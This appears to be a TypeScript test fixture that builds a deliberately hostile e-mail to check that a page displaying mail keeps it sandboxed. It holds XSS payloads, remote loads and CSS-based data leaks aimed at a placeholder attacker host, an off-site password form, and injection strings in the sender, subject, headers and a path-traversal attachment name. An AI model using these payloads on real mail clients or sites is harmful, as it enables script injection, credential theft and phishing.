/** Where an attack would be noticed, if it worked: nobody is there. */
const ELSEWHERE = 'https://attacker.invalid'

/** As large as the contract lets an e-mail be, with room for its other fields. */
const MARKUP_BYTES = 900_000

const ATTACKS = [
  `<base href="${ELSEWHERE}/" target="_top">`,
  `<meta http-equiv="refresh" content="0; url=${ELSEWHERE}/refresh">`,
  '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">',
  `<link rel="stylesheet" href="${ELSEWHERE}/style.css"><link rel="preload" as="image" href="${ELSEWHERE}/preload.png">`,
  `<style>@import "${ELSEWHERE}/import.css"; @font-face { font-family: x; src: url("${ELSEWHERE}/font") }
    body { background: url("${ELSEWHERE}/background.png"); font-family: x }
    input[value^="a"] { background: url("${ELSEWHERE}/first-letter-a") }
    p { position: fixed; inset: 0; z-index: 2147483647 }</style>`,
  '<script>top.document.title = "attacked"; parent.postMessage("attacked", "*"); fetch("/api/now")</script>',
  `<script src="${ELSEWHERE}/script.js"></script><script src="/page.js"></script>`,
  `<img src="${ELSEWHERE}/pixel.png"><img src="x" onerror="top.document.title = 'attacked'">`,
  '<svg onload="top.document.title = \'attacked\'"><script>top.document.title = "attacked"</script></svg>',
  `<iframe src="/"></iframe><iframe srcdoc="<script>top.document.title = 'attacked'</script>"></iframe>`,
  `<object data="${ELSEWHERE}/object"></object><embed src="${ELSEWHERE}/embed"><video autoplay src="${ELSEWHERE}/video"></video>`,
  '<a id="js" href="javascript:top.document.title=\'attacked\'">Your invoice</a>',
  '<a id="data" href="data:text/html,<script>alert(1)</script>" target="_blank">Your receipt</a>',
  `<a id="top" href="${ELSEWHERE}/top" target="_top">Your order</a> <a id="self" href="${ELSEWHERE}/self" target="_self">Your parcel</a>`,
  '<form action="/api/publish" method="post"><input name="topic" value="a"><button id="send">Confirm</button></form>',
  `<form action="${ELSEWHERE}/form"><input name="password" autofocus onfocus="top.document.title = 'attacked'"></form>`,
  '<details open ontoggle="top.document.title = \'attacked\'"><summary>More</summary></details>',
  '<p>This is an e-mail made to attack the page that shows it. If you can read this line, it has not got out of its frame.</p>',
] as const

const filler = '<div><b>'.repeat(Math.ceil((MARKUP_BYTES - ATTACKS.join('\n').length) / '<div><b>'.length))

/** An e-mail made to attack whoever shows it, in everything that its sender decides: HTML, subject, names, headers, data. */
export const ATTACK_EMAIL = {
  channel: 'email',
  to: 'ada@example.com',
  from: '"</td><script>alert(1)</script>" <mallory@attacker.invalid>',
  subject: '<img src=x onerror=alert(1)> \u202Egnp.eciovni {{7*7}} javascript:alert(1)',
  identifiers: { id: 'ada' },
  body: `${ATTACKS.join('\n')}\n${filler}`,
  body_plain: '</textarea><script>top.document.title = "attacked"</script>',
  headers: { 'X-Attack': '"><script>alert(1)</script>' },
  attachments: {
    '../../<img src=x onerror=alert(1)>.html': Buffer.from('<script>alert(1)</script>').toString('base64'),
  },
  message_data: { '<script>': '</script><script>alert(1)</script>' },
} as const
